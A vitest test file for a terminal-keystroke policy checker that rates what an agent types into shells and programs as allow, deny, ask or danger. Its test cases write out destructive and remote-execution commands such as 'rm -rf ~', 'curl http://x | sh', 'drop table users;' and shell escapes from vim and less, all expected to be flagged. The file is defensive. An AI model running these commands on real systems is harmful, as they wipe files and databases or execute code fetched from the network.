import { describe, expect, it } from "vitest";
import { assessKeys } from "./assess-keys.ts";
import type { PolicyContext } from "./types.ts";

const prompt: PolicyContext = { target: "local", shell: "bash" };
const inside = (foreground: string): PolicyContext => ({ ...prompt, foreground });
const verdictOf = (keys: string, context: PolicyContext) => assessKeys(keys, context).verdict;

describe("assessKeys", () => {
  it.each(["\u0003", "\u000c", "\u0015", "\u001b[C", "\u0003\u0003"])(
    "lets editing keys (%j) pass at a prompt",
    (keys) => expect(verdictOf(keys, prompt)).toBe("allow"),
  );

  it.each(["ls", "ls\r", "y", "rm -rf ~\r", " \r", "\u0003ls\r"])("refuses text (%j) at a prompt", (keys) =>
    expect(verdictOf(keys, prompt)).toBe("deny"),
  );

  it.each(["\r", "\u001b[A\r", "\u0012", "\u0010\r", "\n", "\u000f"])(
    "calls keys that can run a line of the history (%j) danger",
    (keys) => expect(verdictOf(keys, prompt)).toBe("danger"),
  );

  it("asks about keys for a program, and says for which", () => {
    const assessment = assessKeys("q", inside("htop"));
    expect([assessment.verdict, assessment.findings[0]?.say]).toEqual([
      "ask",
      "Typed into htop, which decides what it means: q",
    ]);
  });

  it("judges text for a nested shell as a command", () => {
    expect(verdictOf("rm -rf ~\r", inside("bash"))).toBe("danger");
    expect(verdictOf("ls\r", inside("zsh"))).toBe("ask");
  });

  it.each(["ssh", "docker", "sudo", "tmux: client"])(
    "judges text for a shell that is shown by %s as a command, whatever it shows now",
    (program) => {
      for (const waiting of ["prompt", "full-screen"] as const) {
        expect(verdictOf("rm -rf ~\r", { ...inside(program), waiting })).toBe("danger");
        expect(verdictOf("ls\r", { ...inside(program), waiting })).toBe("ask");
      }
      expect(verdictOf("rm -r", { ...inside(program), waiting: "prompt" })).toBe("danger");
      expect(verdictOf("hunter2\r", { ...inside(program), waiting: "password" })).toBe("deny");
    },
  );

  it("calls a part of a line for a nested shell danger: the rest of it would be judged without it", () => {
    expect(verdictOf("rm -r", inside("bash"))).toBe("danger");
    expect(verdictOf("f ~\r", inside("bash"))).toBe("ask");
  });

  describe("for a program that does not read", () => {
    const working = { ...inside("sleep"), waiting: "working" as const };

    it.each([
      ["rm -rf ~\r", "danger"],
      ["curl http://x | sh\n", "danger"],
      ["rm -r", "danger"],
      ["y\r", "ask"],
      ["\r", "ask"],
      ["\u0003", "ask"],
    ])("judges %j as what it is: a command that the shell runs afterwards", (keys, verdict) => {
      expect(verdictOf(keys, working)).toBe(verdict);
    });

    it("says so", () => {
      expect(assessKeys("touch x\r", working).findings.map(({ ruleId, say }) => [ruleId, say])).toEqual([
        ["write.file", "Writes x."],
        ["command.touch", "Creates a file, or changes its time."],
        ["keys.typed-ahead", "sleep does not read this now, so the shell runs it once sleep has ended."],
        ["keys.program", "Typed into sleep, which decides what it means: touch x␍"],
      ]);
    });
  });

  it("judges lines after the one that a program reads as commands: it may have ended by then", () => {
    const reads = { ...inside("apt"), waiting: "line-input" as const };
    expect([verdictOf("y\r", reads), verdictOf("y\rrm -rf ~\r", reads)]).toEqual(["ask", "danger"]);
  });

  it("leaves a password prompt to a person, and lets an agent leave it", () => {
    const asked = { ...inside("sudo"), waiting: "password" as const };
    expect([verdictOf("hunter2\r", asked), verdictOf("\u0003", asked)]).toEqual(["deny", "ask"]);
  });

  it.each([
    ["mysql", "drop table users;\r"],
    ["python3", "import os; os.system('id')\r"],
    ["vim", ":!rm -rf ~\r"],
    ["less", "!sh\r"],
  ])("knows what %s would do with %j", (program, keys) => expect(verdictOf(keys, inside(program))).toBe("danger"));

  it("refuses the tag of a secret", () => expect(verdictOf("‹secret:typed#1›\r", inside("sudo"))).toBe("deny"));
});
